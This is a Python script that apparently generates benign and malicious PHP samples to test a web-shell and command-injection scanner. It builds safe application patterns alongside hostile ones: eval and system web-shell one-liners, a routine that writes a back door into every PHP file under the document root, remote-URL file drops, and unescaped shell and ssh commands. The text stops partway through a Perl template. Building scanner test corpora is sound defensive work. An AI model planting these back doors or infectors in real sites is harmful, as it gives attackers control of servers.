#!/usr/bin/env python3
"""What real applications do that the PHP layer may take for an attack, and
the same shapes without the check that makes them safe (session 15, branch
fp5), for gen_variants.py and tests/integration/scan_benign.sh.

Written from how web applications are built (no clean-set or corpus file was
copied): a program started with PHP 7.4's argument array and input as one of
its arguments; a fixed program whose arguments are escapeshellarg()ed (an
image library calling ImageMagick, a backup tool calling mysqldump or ssh, a
version control page calling git); a cron runner calling `php` on its own
script; an upload handler that checks the type and writes into its uploads
directory; an installer writing config.php from its form; a template
compiler and a cache writer that var_export()s into a .php file, over a
directory of templates too; a translation compiler; a page that inlines its
own script or style sheet with include inside a <script>/<style> element; an
options array holding the request's host next to the program to run.

The malicious counterparts keep the shape and drop the check, or use a check
that does not protect (escapeshellarg() after `sh -c`, escapeshellcmd() of
the whole command, input after `nohup`, `timeout`, `env` or `php -f`, an
argument array that puts the input after `-c`, a program named by the
request): they must stay high or critical.

Each template takes (g, php_file) and returns the file's text; the text is
scanned, never run.

usage (standalone): benigngen.py --out DIR [--seed N] [--per N]
writes DIR/variants.tsv as gen_variants.py does, with only these templates.
"""

import os
import sys

# ---------------------------------------------------------------- helpers

PROGS = [  # (program, arguments before the input, arguments after it)
    ("convert", [], ["-resize", "160x160", "-strip"]),
    ("/usr/bin/convert", ["-density", "150"], ["-quality", "85"]),
    ("ffmpeg", ["-y", "-i"], ["-vf", "scale=640:-1"]),
    ("/usr/bin/pdftotext", ["-layout"], ["-"]),
    ("gs", ["-q", "-dNOPAUSE", "-dBATCH", "-sDEVICE=png16m"], []),
    ("identify", ["-format", "%w %h"], []),
    ("git", ["log", "--oneline", "-n", "20"], []),
    ("/usr/bin/exiftool", ["-json"], []),
    ("optipng", ["-o2"], []),
    ("clamscan", ["--no-summary"], []),
]


def _q(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def _input(g, fn_scope=False):
    """Request input for a program's argument: an upload's temp file, a field."""
    r = g.rng
    k = r.choice(["files", "post", "get", "request"])
    g.transforms.add("in:" + k)
    if k == "files":
        return "$_FILES[%s]['tmp_name']" % _q(r.choice(["file", "upload", "image", "doc"]))
    return "$_%s[%s]" % (k.upper(), _q(g.key()))


def _php_argv(items):
    return ", ".join(items)


def _array(g, items):
    r = g.rng
    if r.random() < 0.5:
        return "[" + _php_argv(items) + "]"
    return "array(" + _php_argv(items) + ")"


def _pipes(g):
    return "[1 => ['pipe', 'w'], 2 => ['pipe', 'w']]" if g.rng.random() < 0.5 else \
        "array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'))"


def _proc(g, argv_expr):
    p, out, h = g.var(), g.var(), g.var()
    return ("%s = proc_open(%s, %s, %s);\nif (is_resource(%s)) {\n    %s = stream_get_contents(%s[1]);\n"
            "    fclose(%s[1]);\n    proc_close(%s);\n}\n" % (p, argv_expr, _pipes(g), h, p, out, h, h, p))


def _argv_build(g, items):
    """An argument array, literal or built element by element."""
    r = g.rng
    form = r.choice(["literal", "literal", "append", "merge"])
    g.transforms.add("argv:" + form)
    v = g.var()
    if form == "literal":
        return "", _array(g, items)
    if form == "append":
        s = "%s = %s;\n" % (v, _array(g, items[:1]))
        for it in items[1:]:
            s += "%s[] = %s;\n" % (v, it)
        return s, v
    return ("%s = array_merge(%s, %s);\n" % (v, _array(g, items[:2]), _array(g, items[2:] or ["'-'"])), v)


def _fn_wrap(g, body):
    """The code at the top of the file, in a function it calls, or in a method."""
    r = g.rng
    form = r.choice(["top", "function", "method"])
    g.transforms.add("scope:" + form)
    if form == "top":
        return body
    ind = "\n".join(("    " + l) if l else l for l in body.rstrip("\n").split("\n"))
    f = g.fname().lower()
    if form == "function":
        return "function %s()\n{\n%s\n}\n%s();\n" % (f, ind, f)
    cls = g.fname().capitalize()
    ind2 = "\n".join(("    " + l) if l else l for l in ind.split("\n"))
    return ("class %s\n{\n    public function run()\n    {\n%s\n    }\n}\n(new %s())->run();\n"
            % (cls, ind2, cls))


# ------------------------------------------------- commands: benign shapes


def b_argv_tool(g, php_file):
    """proc_open([fixed program, ..., input, ...]): no shell; the input is one argument."""
    r = g.rng
    prog, pre, post = r.choice(PROGS)
    x = g.var()
    lead = []
    if r.random() < 0.3:
        lead = r.choice([["nice", "-n", "10"], ["timeout", "30"], ["/usr/bin/env", "LC_ALL=C"],
                         ["ionice", "-c3"]])
        g.transforms.add("runner")
    items = [_q(a) for a in lead + [prog] + pre] + [x] + [_q(a) for a in post]
    if prog.endswith("convert") and r.random() < 0.5:
        items.append("'/tmp/thumb_' . md5(%s) . '.png'" % x)
    pre_s, argv = _argv_build(g, items)
    body = "%s = %s;\n%s%s" % (x, _input(g), pre_s, _proc(g, argv))
    return php_file(g, _fn_wrap(g, body))


def b_argv_shell_params(g, php_file):
    """sh -c with a fixed script: the input comes in as $1, a positional parameter."""
    r = g.rng
    sh = r.choice(["sh", "/bin/sh", "bash", "/bin/bash"])
    script = r.choice(['convert "$1" -resize 200x200 "$2"', 'gzip -c "$1" > "$2"',
                       'file --mime-type -b "$1"', 'exiftool -json "$1" | head -c 4096'])
    x = g.var()
    items = [_q(sh), _q(r.choice(["-c", "-ec", "-c"])), _q(script), _q(r.choice(["sh", "_", "thumb"])),
             x, "'/tmp/out_' . uniqid() . '.bin'"]
    pre_s, argv = _argv_build(g, items)
    return php_file(g, _fn_wrap(g, "%s = %s;\n%s%s" % (x, _input(g), pre_s, _proc(g, argv))))


def _escaped_line(g, prog, x, y):
    """A command line of a fixed program with escapeshellarg()ed arguments, in one of the
    ways applications write it."""
    r = g.rng
    form = r.choice(["concat", "sprintf", "interp", "implode", "map"])
    g.transforms.add("esc:" + form)
    if form == "concat":
        return "%s . ' ' . escapeshellarg(%s) . ' ' . escapeshellarg(%s) . ' 2>&1'" % (prog, x, y)
    if form == "sprintf":
        return "sprintf('%%s %%s %%s 2>&1', %s, escapeshellarg(%s), escapeshellarg(%s))" % (prog, x, y)
    if form == "interp":
        a, b = g.var(), g.var()
        g.stmt("%s = escapeshellarg(%s);" % (a, x))
        g.stmt("%s = escapeshellarg(%s);" % (b, y))
        return '"{%s} %s %s"' % (prog, a, b) if prog.startswith("$") else '%s . " %s %s"' % (prog, a, b)
    if form == "implode":
        return "%s . ' ' . implode(' ', array(escapeshellarg(%s), escapeshellarg(%s)))" % (prog, x, y)
    return "%s . ' ' . implode(' ', array_map('escapeshellarg', array(%s, %s)))" % (prog, x, y)


def b_image_magick(g, php_file):
    """An image library calling ImageMagick's convert on an upload, arguments escaped."""
    r = g.rng
    bin_ = r.choice(["'convert'", "'/usr/bin/convert'", "$this->options['convert_bin']",
                     "$config['im_path'] . '/convert'", "IMAGEMAGICK_BIN"])
    src, dst = g.var(), g.var()
    g.transforms.add("bin:" + {"'convert'": "name", "'/usr/bin/convert'": "path",
                               "IMAGEMAGICK_BIN": "const"}.get(bin_, "config" if "$config" in bin_ else "options"))
    if bin_.startswith("$this"):
        g.transforms.add("options-array")
        cls = g.fname().capitalize()
        line = "$this->options['convert_bin'] . ' ' . escapeshellarg(%s) . ' -resize 80x80 ' . escapeshellarg(%s)" % (src, dst)
        fn = r.choice(["exec(%s, $out, $rc);", "$o = shell_exec(%s);", "system(%s);"]) % line
        body = ("class %s\n{\n    protected $options;\n\n    public function __construct()\n    {\n"
                "        $this->options = array(\n"
                "            'upload_url' => (isset($_SERVER['HTTPS']) ? 'https://' : 'http://') . $_SERVER['HTTP_HOST'] . '/files/',\n"
                "            'script_url' => 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'],\n"
                "            'upload_dir' => dirname($_SERVER['SCRIPT_FILENAME']) . '/files/',\n"
                "            'convert_bin' => 'convert',\n"
                "            'param_name' => 'files',\n"
                "        );\n    }\n\n    public function thumb($name)\n    {\n"
                "        %s = $this->options['upload_dir'] . basename($name);\n"
                "        %s = $this->options['upload_dir'] . 'thumbnail/' . basename($name);\n"
                "        %s\n        return $this->options['upload_url'] . rawurlencode(basename($name));\n    }\n}\n"
                "$h = new %s();\necho $h->thumb($_FILES['files']['name'][0]);\n"
                % (cls, src, dst, fn, cls))
        return php_file(g, body)
    line = _escaped_line(g, bin_, src, dst)
    body = ("%s = $_FILES['image']['tmp_name'];\n%s = __DIR__ . '/uploads/' . md5_file(%s) . '.jpg';\n"
            % (src, dst, src))
    if bin_ == "IMAGEMAGICK_BIN":
        body = "define('IMAGEMAGICK_BIN', '/usr/bin/convert');\n" + body
    call = r.choice(["exec(%s, $out, $rc);", "$res = shell_exec(%s);", "passthru(%s);",
                     "$p = popen(%s, 'r');\npclose($p);"]) % line
    return php_file(g, _fn_wrap(g, body + "\n".join(g.take()) + "\n" + call + "\n"))


def b_backup_tool(g, php_file):
    """A backup tool: mysqldump, tar, rsync or ssh with every variable escaped."""
    r = g.rng
    form = r.choice(["mysqldump", "tar", "rsync_ssh", "ssh_cmd"])
    g.transforms.add("backup:" + form)
    host, user, db, f = g.var(), g.var(), g.var(), g.var()
    body = ("%s = $_POST['host'];\n%s = $_POST['user'];\n%s = $_POST['db'];\n"
            "%s = __DIR__ . '/backups/' . date('Ymd-His') . '.sql.gz';\n" % (host, user, db, f))
    if form == "mysqldump":
        line = ("'mysqldump -h ' . escapeshellarg(%s) . ' -u ' . escapeshellarg(%s) . ' ' . escapeshellarg(%s)"
                " . ' | gzip > ' . escapeshellarg(%s)" % (host, user, db, f))
    elif form == "tar":
        line = ("'tar czf ' . escapeshellarg(%s) . ' -C ' . escapeshellarg(__DIR__ . '/data') . ' ' . escapeshellarg(basename(%s))"
                % (f, db))
    elif form == "rsync_ssh":
        line = ("'rsync -az -e ssh ' . escapeshellarg(__DIR__ . '/backups/') . ' ' . escapeshellarg(%s . '@' . %s . ':backups/')"
                % (user, host))
    else:
        # the remote shell parses the command again: escaped twice, once for each shell
        line = ("sprintf('ssh -o BatchMode=yes %%s %%s', escapeshellarg(%s . '@' . %s),"
                " escapeshellarg('ls -1 backups/' . escapeshellarg(%s)))" % (user, host, db))
    call = r.choice(["exec(%s, $out, $rc);", "system(%s, $rc);", "$log = shell_exec(%s . ' 2>&1');"]) % line
    return php_file(g, _fn_wrap(g, body + call + "\n"))


def b_cron_runner(g, php_file):
    """A cron or queue runner starting `php` on its own script, in the background."""
    r = g.rng
    form = r.choice(["fixed", "binary", "job_checked", "artisan", "int_arg", "dir_arg"])
    g.transforms.add("cron:" + form)
    if form == "fixed":
        line = "'php ' . __DIR__ . '/cron.php > /dev/null 2>&1 &'"
    elif form == "binary":
        line = "PHP_BINARY . ' ' . escapeshellarg(dirname(__FILE__) . '/worker.php') . ' > /dev/null 2>&1 &'"
    elif form == "job_checked":
        j = g.var()
        g.stmt("%s = isset($_GET['job']) ? $_GET['job'] : 'daily';" % j)
        g.stmt("if (!in_array(%s, array('daily', 'hourly', 'mail'), true)) {\n    exit('bad job');\n}" % j)
        line = "'/usr/bin/php -q ' . __DIR__ . '/tasks.php ' . escapeshellarg(%s) . ' &'" % j
    elif form == "artisan":
        line = "'cd ' . escapeshellarg(dirname(__DIR__)) . ' && nohup php artisan queue:work --once > /dev/null 2>&1 &'"
    elif form == "int_arg":
        line = "'nohup php ' . __DIR__ . '/export.php ' . (int) $_GET['id'] . ' > /dev/null 2>&1 &'"
    else:  # unescaped: an injection into the script's arguments, not a command
        line = "'php ' . $app_dir . '/cron/run.php ' . $_GET['task'] . ' > /dev/null 2>&1 &'"
        g.stmt("$app_dir = dirname(__DIR__);")
    call = r.choice(["exec(%s);", "shell_exec(%s);", "pclose(popen(%s, 'r'));", "system(%s);"]) % line
    return php_file(g, _fn_wrap(g, "\n".join(g.take()) + "\n" + call + "\n"))


def b_escapeshellcmd_tool(g, php_file):
    """A fixed program's whole command line through escapeshellcmd() (zoneminder's shape)."""
    r = g.rng
    prog = r.choice(["'/usr/bin/zmu'", "'/usr/local/bin/probe.pl'", "'/usr/sbin/arping'",
                     "ZM_PATH_BIN . '/zmu'"])
    x = g.var()
    line = r.choice(['escapeshellcmd(%s . " -m$%s -q")' % (prog, x[1:]),
                     "escapeshellcmd(%s . ' -v ' . %s)" % (prog, x)])
    return php_file(g, _fn_wrap(g, "%s = %s;\nexec(%s, $out, $rc);\n" % (x, _input(g), line)))


# ---------------------------------------------- commands: malicious shapes


def t_argv_command(g, php_file):
    """An argument array that puts the input where a program or its code goes."""
    r = g.rng
    x = g.var()
    form = r.choice(["sh_c", "bash_lc", "python_c", "php_r", "program", "nohup", "env", "cmd_c",
                     "perl_e", "php_f"])
    g.transforms.add("argv_bad:" + form)
    items = {
        "sh_c": ["'sh'", "'-c'", x],
        "bash_lc": ["'/bin/bash'", "'-lc'", x],
        "python_c": ["'python3'", "'-c'", x],
        "php_r": ["'php'", "'-r'", x],
        "program": [x, "'-v'"],
        "nohup": ["'nohup'", x],
        "env": ["'/usr/bin/env'", "'PATH=/usr/bin:/bin'", x],
        "cmd_c": ["'cmd.exe'", "'/c'", x],
        "perl_e": ["'perl'", "'-e'", x],
        "php_f": ["'/usr/bin/php'", "'-f'", x],
    }[form]
    pre_s, argv = _argv_build(g, items)
    return php_file(g, _fn_wrap(g, "%s = %s;\n%s%s" % (x, _input(g), pre_s, _proc(g, argv))))


def t_escape_no_protect(g, php_file):
    """escapeshellarg()/escapeshellcmd() where escaping does not protect: the input is the
    code of `sh -c`/`php -r`, the program itself, or what a runner starts."""
    r = g.rng
    x = g.var()
    form = r.choice(["sh_c", "php_r", "perl_e", "cmd_whole", "nohup", "timeout", "env", "php_script",
                     "bash_script", "bindir"])
    g.transforms.add("esc_bad:" + form)
    line = {
        "sh_c": "'sh -c ' . escapeshellarg(%s)",
        "php_r": "'php -r ' . escapeshellarg(%s)",
        "perl_e": "\"perl -e \" . escapeshellarg(%s)",
        "cmd_whole": "escapeshellcmd(%s)",
        "nohup": "'nohup ' . %s . ' > /dev/null 2>&1 &'",
        "timeout": "'timeout 10 ' . %s",
        "env": "'/usr/bin/env LANG=C ' . %s",
        "php_script": "'php -f ' . %s . ' 2>&1'",
        "bash_script": "'bash ' . %s",
        "bindir": "'/usr/bin/' . %s",
    }[form] % x
    call = r.choice(["echo shell_exec(%s);", "system(%s);", "passthru(%s);",
                     "exec(%s, $o); echo implode(\"\\n\", $o);"]) % line
    return php_file(g, _fn_wrap(g, "%s = %s;\n%s\n" % (x, _input(g), call)))


def t_ssh_inject(g, php_file):
    """Input spliced unescaped into an ssh command line: the remote shell runs it."""
    r = g.rng
    x = g.var()
    line = r.choice(["'ssh backup@' . %s . ' uptime'", "\"ssh -o BatchMode=yes root@host.example 'ls \" . %s . \"'\"",
                     "sprintf('ssh %%s@%%s df -h', 'admin', %s)"]) % x
    return php_file(g, _fn_wrap(g, "%s = %s;\nexec(%s, $out);\n" % (x, _input(g), line)))


# ----------------------------------------------- writes: benign shapes


def b_config_installer(g, php_file):
    """An installer writing config.php from its form (escaped into string literals)."""
    r = g.rng
    form = r.choice(["addslashes", "var_export", "str_replace", "heredoc", "fwrite"])
    g.transforms.add("install:" + form)
    f = r.choice(["__DIR__ . '/config.php'", "'../config/config.inc.php'", "$root . '/config.php'"])
    pre = "$root = dirname(__DIR__);\n" if "$root" in f else ""
    if form == "addslashes":
        data = ("\"<?php\\n\\$db_host = '\" . addslashes($_POST['db_host']) . \"';\\n\\$db_user = '\" . addslashes($_POST['db_user'])"
                " . \"';\\n\\$db_pass = '\" . addslashes($_POST['db_pass']) . \"';\\n\"")
    elif form == "var_export":
        data = ("'<?php return ' . var_export(array('host' => $_POST['db_host'], 'user' => $_POST['db_user'],"
                " 'pass' => $_POST['db_pass'], 'name' => $_POST['db_name']), true) . ';'")
    elif form == "str_replace":
        pre += "$tpl = file_get_contents(__DIR__ . '/config.sample.php');\n"
        data = ("str_replace(array('{DB_HOST}', '{DB_USER}', '{DB_PASS}'), array(addslashes($_POST['db_host']),"
                " addslashes($_POST['db_user']), addslashes($_POST['db_pass'])), $tpl)")
    elif form == "heredoc":
        pre += "$h = addslashes($_POST['db_host']);\n$u = addslashes($_POST['db_user']);\n"
        data = "<<<PHP\n<?php\ndefine('DB_HOST', '$h');\ndefine('DB_USER', '$u');\nPHP"
    else:
        pre += "$fh = fopen(%s, 'w');\n" % f
        data = None
    if data is None:
        body = (pre + "fwrite($fh, \"<?php\\n\");\nfwrite($fh, \"\\$config['db_host'] = '\" . addslashes($_POST['db_host']) . \"';\\n\");\n"
                "fwrite($fh, \"\\$config['db_name'] = '\" . addslashes($_POST['db_name']) . \"';\\n\");\nfclose($fh);\n")
    else:
        body = pre + "if (file_put_contents(%s, %s) === false) {\n    die('cannot write the config');\n}\n" % (f, data)
    guard = "if (file_exists(__DIR__ . '/install.lock')) {\n    exit('already installed');\n}\n"
    return php_file(g, guard + "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n" + body + "}\n")


def b_template_compiler(g, php_file):
    """A template engine compiling its templates into .php files of its cache and
    including them; sometimes over the whole template directory."""
    r = g.rng
    form = r.choice(["one", "glob", "scandir", "iterator"])
    g.transforms.add("tpl:" + form)
    comp = ("function compile_tpl($src)\n{\n"
            "    $src = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?php echo htmlspecialchars($$1); ?>', $src);\n"
            "    $src = preg_replace('/\\{%\\s*if (\\w+)\\s*%\\}/', '<?php if ($$1): ?>', $src);\n"
            "    return str_replace('{% endif %}', '<?php endif; ?>', $src);\n}\n")
    cache = r.choice(["__DIR__ . '/cache/'", "sys_get_temp_dir() . '/tpl_'", "CACHE_DIR . '/'"])
    pre = "define('CACHE_DIR', __DIR__ . '/var/cache');\n" if "CACHE_DIR" in cache else ""
    if form == "one":
        body = ("$name = basename(isset($_GET['page']) ? $_GET['page'] : 'home');\n"
                "$tpl = __DIR__ . '/templates/' . $name . '.tpl';\n"
                "$out = %s . md5($tpl) . '.php';\n"
                "if (!is_file($out) || filemtime($out) < filemtime($tpl)) {\n"
                "    file_put_contents($out, compile_tpl(file_get_contents($tpl)));\n}\ninclude $out;\n" % cache)
    elif form == "glob":
        body = ("foreach (glob(__DIR__ . '/templates/*.tpl') as $tpl) {\n"
                "    $out = %s . basename($tpl, '.tpl') . '.php';\n"
                "    file_put_contents($out, \"<?php /* compiled */ ?>\\n\" . compile_tpl(file_get_contents($tpl)));\n}\n" % cache)
    elif form == "scandir":
        body = ("$dir = __DIR__ . '/modelli/';\nforeach (scandir($dir) as $f) {\n"
                "    if (substr($f, -5) !== '.html') {\n        continue;\n    }\n"
                "    $fp = fopen(%s . substr($f, 0, -5) . '.php', 'w');\n"
                "    fwrite($fp, '<?php if (!defined(\"APP\")) exit; ?>' . compile_tpl(file_get_contents($dir . $f)));\n"
                "    fclose($fp);\n}\n" % cache)
    else:
        body = ("$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(__DIR__ . '/views'));\n"
                "foreach ($it as $file) {\n    if ($file->getExtension() !== 'tpl') {\n        continue;\n    }\n"
                "    $target = %s . md5($file->getPathname()) . '.php';\n"
                "    file_put_contents($target, compile_tpl(file_get_contents($file->getPathname())));\n}\n" % cache)
    return php_file(g, pre + comp + body)


def b_cache_export(g, php_file):
    """Settings or a translation catalogue written as a PHP file with var_export()."""
    r = g.rng
    form = r.choice(["settings", "lang", "routes", "opcache"])
    g.transforms.add("export:" + form)
    if form == "settings":
        body = ("$settings = array_merge(include __DIR__ . '/settings.php', array('title' => $_POST['title'],"
                " 'theme' => $_POST['theme'], 'per_page' => (int) $_POST['per_page']));\n"
                "file_put_contents(__DIR__ . '/settings.php', '<?php return ' . var_export($settings, true) . ';' . PHP_EOL, LOCK_EX);\n")
    elif form == "lang":
        body = ("$strings = array();\nforeach (file(__DIR__ . '/lang/' . basename($_GET['lang']) . '.po') as $line) {\n"
                "    if (preg_match('/^msgid \"(.*)\"$/', $line, $m)) {\n        $id = stripcslashes($m[1]);\n"
                "    } elseif (preg_match('/^msgstr \"(.*)\"$/', $line, $m) && isset($id)) {\n"
                "        $strings[$id] = stripcslashes($m[1]);\n    }\n}\n"
                "file_put_contents(__DIR__ . '/cache/lang_' . md5($_GET['lang']) . '.php', \"<?php\\n\\$LANG = \" . var_export($strings, true) . \";\\n\");\n")
    elif form == "routes":
        body = ("$routes = json_decode(file_get_contents(__DIR__ . '/routes.json'), true);\n"
                "$routes[$_POST['path']] = $_POST['controller'];\n"
                "$code = '<?php' . \"\\n\" . 'return ' . var_export($routes, true) . ';';\n"
                "$fp = fopen(__DIR__ . '/cache/routes.php', 'wb');\nfwrite($fp, $code);\nfclose($fp);\n")
    else:
        body = ("$key = md5($_SERVER['REQUEST_URI']);\n$data = array('uri' => $_SERVER['REQUEST_URI'], 'time' => time(),"
                " 'html' => ob_get_contents());\n"
                "file_put_contents(__DIR__ . '/cache/' . $key . '.php', '<?php return ' . var_export($data, true) . ';');\n")
    return php_file(g, body)


def b_upload_checked(g, php_file):
    """An upload handler that checks the type or the extension and writes into its
    uploads directory under a name it makes safe."""
    r = g.rng
    check = r.choice(["in_array", "preg_match", "getimagesize", "finfo", "pathinfo_switch"])
    name = r.choice(["basename", "uniqid", "md5", "sanitized"])
    g.transforms.add("check:" + check)
    g.transforms.add("name:" + name)
    f = r.choice(["'file'", "'upload'", "'files'", "'image'"])
    body = "$f = $_FILES[%s];\n$ext = strtolower(pathinfo($f['name'], PATHINFO_EXTENSION));\n" % f
    if check == "in_array":
        body += ("if (!in_array($ext, array('jpg', 'jpeg', 'png', 'gif', 'pdf'), true)) {\n"
                 "    die(json_encode(array('error' => 'Filetype not allowed')));\n}\n")
    elif check == "preg_match":
        body += ("if (!preg_match('/\\.(gif|jpe?g|png)$/i', $f['name'])) {\n    http_response_code(415);\n    exit;\n}\n")
    elif check == "getimagesize":
        body += "if (@getimagesize($f['tmp_name']) === false) {\n    exit('not an image');\n}\n"
    elif check == "finfo":
        body += ("$mime = finfo_file(finfo_open(FILEINFO_MIME_TYPE), $f['tmp_name']);\n"
                 "if (strpos($mime, 'image/') !== 0) {\n    exit('bad type');\n}\n")
    else:
        body += "switch ($ext) {\n    case 'png':\n    case 'jpg':\n        break;\n    default:\n        exit('no');\n}\n"
    if name == "basename":
        dst = "__DIR__ . '/uploads/' . basename($f['name'])"
    elif name == "uniqid":
        dst = "__DIR__ . '/uploads/' . uniqid('img_', true) . '.' . $ext"
    elif name == "md5":
        dst = "'uploads/' . md5_file($f['tmp_name']) . '.' . $ext"
    else:
        body += "$clean = preg_replace('/[^A-Za-z0-9._-]/', '_', basename($f['name']));\n"
        dst = "$upload_dir . '/' . $clean"
        body = "$upload_dir = dirname(__FILE__) . '/files';\n" + body
    body += ("if (!move_uploaded_file($f['tmp_name'], %s)) {\n    exit('upload failed');\n}\n"
             "echo json_encode(array('ok' => true));\n" % dst)
    return php_file(g, _fn_wrap(g, body))


def b_inline_asset(g, php_file):
    """A page inlining its own script or style sheet: include inside <script>/<style>."""
    r = g.rng
    form = r.choice(["echo_script", "html_style", "html_script", "echo_style"])
    g.transforms.add("inline:" + form)
    if form == "echo_script":
        body = ("echo '<script type=\"text/javascript\">';\nrequire 'assets/js/tables.js';\n"
                "echo 'tables.lang = ' . json_encode(array('next' => 'Next')) . ';';\necho '</script>';\n")
    elif form == "echo_style":
        body = "echo \"<style>\\n\";\ninclude __DIR__ . '/css/print.css';\necho \"</style>\\n\";\n"
    elif form == "html_style":
        body = ("?>\n<html>\n<head>\n<title>Export</title>\n<style>\n<?php\ninclude(APP_PATH . '/css/base/export.css');\n"
                "if ($skin != 'base') {\n    include(APP_PATH . '/css/' . $skin . '/export.css');\n}\n?>\n</style>\n</head>\n<?php\n")
        body = "define('APP_PATH', __DIR__);\n$skin = 'dark';\n" + body
    else:
        body = "?>\n<script>\n<?php include dirname(__FILE__) . '/js/app.min.js'; ?>\n</script>\n<?php\n"
    return php_file(g, body, close=False)


# ------------------------------------------------ writes: malicious shapes


def t_code_write(g, php_file):
    """The installer's or the cache writer's shape with the request as the code."""
    r = g.rng
    form = r.choice(["config_code", "name_php", "export_code", "handle"])
    g.transforms.add("write_bad:" + form)
    x = _input(g)
    if form == "config_code":
        body = "file_put_contents(__DIR__ . '/config.php', \"<?php\\n\" . %s);\n" % x
    elif form == "name_php":
        body = "file_put_contents(__DIR__ . '/cache/' . $_POST['n'] . '.php', %s);\n" % x
    elif form == "export_code":
        body = "file_put_contents(__DIR__ . '/settings.php', '<?php ' . %s);\n" % x
    else:
        body = "$fh = fopen(__DIR__ . '/' . $_GET['f'] . '.php', 'w');\nfwrite($fh, %s);\nfclose($fh);\n" % x
    return php_file(g, body)


def t_tpl_infector(g, php_file):
    """A template writer's walk, writing a back door into every script it finds."""
    r = g.rng
    code = r.choice(["<?php @eval(base64_decode($_POST['z'])); ?>", "<?php if (isset($_REQUEST['k'])) { system($_REQUEST['k']); } ?>"])
    walk = r.choice(["glob", "scandir"])
    g.transforms.add("walk:" + walk)
    if walk == "glob":
        body = ("foreach (glob(dirname(__DIR__) . '/*/*.php') as $f) {\n"
                "    file_put_contents($f, %s . file_get_contents($f));\n}\n" % _q(code))
    else:
        body = ("$d = $_SERVER['DOCUMENT_ROOT'];\nforeach (scandir($d) as $f) {\n    if (substr($f, -4) === '.php') {\n"
                "        $c = file_get_contents($d . '/' . $f);\n"
                "        file_put_contents($d . '/' . $f, str_replace('<?php', %s, $c));\n    }\n}\n" % _q(code.replace("?>", "")))
    return php_file(g, body)


def t_upload_unchecked(g, php_file):
    """The uploader without the check: the client's name, into a directory the request names."""
    r = g.rng
    dst = r.choice(["$_POST['dir'] . '/' . $_FILES['f']['name']", "$_REQUEST['path']",
                    "$_GET['d'] . $_FILES['f']['name']"])
    call = r.choice(["move_uploaded_file($_FILES['f']['tmp_name'], %s)", "copy($_FILES['f']['tmp_name'], %s)"]) % dst
    return php_file(g, "if (%s) {\n    echo 'ok';\n}\n" % call)


def t_ssh_escaped_once(g, php_file):
    """The remote command escaped once: the local shell removes the quotes, the remote
    shell parses the input again (a backup tool's mistake, and a back door's disguise)."""
    r = g.rng
    x = g.var()
    line = r.choice(["'ssh backup@host.example ' . escapeshellarg('ls -1 /srv/backups/' . %s)",
                     "'ssh -o BatchMode=yes root@host.example ' . escapeshellarg(%s)"]) % x
    return php_file(g, _fn_wrap(g, "%s = %s;\nexec(%s, $out);\n" % (x, _input(g), line)))


def b_page_writer(g, php_file):
    """An application that lists a folder, then writes a page of its own (a template
    that reads the request to pick its frame or language) and copies its own named
    pages from one folder to another."""
    r = g.rng
    form = r.choice(["fwrite", "put", "copy"])
    g.transforms.add("page:" + form)
    walk = r.choice(["$d = opendir('./lang/');\nwhile ($e = readdir($d)) {\n    $langs[] = $e;\n}\nclosedir($d);\n",
                     "$langs = scandir(__DIR__ . '/lang');\n", "$langs = glob(__DIR__ . '/lang/*', GLOB_ONLYDIR);\n"])
    page = ("\"<?php if (empty(\\$framed) and empty(\\$_GET['framed'])) { ?>\" . $head . "
            "\"<?php } ?>\\n<?php echo htmlspecialchars(\\$_GET['lang'] ?? 'en'); ?>\" . $body")
    pre = "$head = '<html><body>';\n$body = '</body></html>';\n$name = page_name($lang) . '.php';\n"
    if form == "fwrite":
        w = "$fh = fopen(\"$dir/$name\", 'w');\nfwrite($fh, %s);\nfclose($fh);\n" % page
    elif form == "put":
        w = "file_put_contents($dir . '/' . $name, %s);\n" % page
    else:
        w = ("$from = $_POST['from_dir'];\n$to = $_POST['to_dir'];\n"
             "if (is_dir($from) && is_dir($to) && $from != $to) {\n"
             "    copy(\"$from/availability.php\", \"$to/availability.php\");\n"
             "    copy($from . '/booking_form.php', $to . '/booking_form.php');\n}\n")
    return php_file(g, "function page_name($l)\n{\n    return 'mdl_' . preg_replace('/[^a-z]/', '', $l);\n}\n"
                    "$dir = template_dir();\n$lang = 'en';\n" + walk + pre + w)


def t_walk_writer(g, php_file):
    """The same walk and write carrying code that runs something, or aimed at the
    index.php of every folder, or fetching the code by a URL the request names."""
    r = g.rng
    form = r.choice(["strong", "index", "prepend", "copy_url", "copy_url_txt"])
    g.transforms.add("walkw:" + form)
    if form == "copy_url":
        return php_file(g, "copy($_GET['u'], __DIR__ . '/' . $_GET['n'] . '.php');\n")
    if form == "copy_url_txt":
        return php_file(g, "copy($_POST['src'] . '/s.txt', __DIR__ . '/wp-cache.php');\n")
    walk = r.choice(["foreach (scandir($root) as $e) {\n", "foreach (glob($root . '/*', GLOB_ONLYDIR) as $e) {\n"])
    code = "'<?php @eval($_POST[\"p\"]); ?>'"
    if form == "strong":
        w = "    file_put_contents($root . '/' . basename($e) . '/cache.php', %s);\n" % code
    elif form == "index":
        w = "    file_put_contents($root . '/' . basename($e) . '/index.php', '<?php if (isset($_GET[\"x\"])) { include $_GET[\"x\"]; } ?>');\n"
    else:
        w = ("    $f = $root . '/' . basename($e) . '/index.php';\n"
             "    file_put_contents($f, '<?php if (isset($_GET[\"x\"])) { include $_GET[\"x\"]; } ?>' . file_get_contents($f));\n")
    return php_file(g, "$root = $_SERVER['DOCUMENT_ROOT'];\n" + walk + w + "}\n")


# ------------------------------------------------ Perl: look-alikes and shapes


def b_pl_comment_eval(g, php_file):
    """A Perl tool that explains its remote wrapper in a comment (eval pack 'H*', eval
    decode_base64) and builds the command without those words in the code."""
    r = g.rng
    g.lang = "pl"
    word = r.choice(["eval pack 'H*', join '',@ARGV", "eval(decode_base64(join'',@ARGV))",
                     "eval unpack 'u', $blob"])
    g.transforms.add("pl_comment:" + ("pack" if "pack" in word else "b64"))
    return ("#!/usr/bin/perl\nuse strict;\nuse warnings;\n\nsub remote_wrap {\n    my $cmd = join('', @_);\n"
            "    my $hex = unpack 'H*', $cmd;\n    # Explanation:\n    # Write this without special chars: %s\n"
            "    # so that the remote shell passes it unchanged\n"
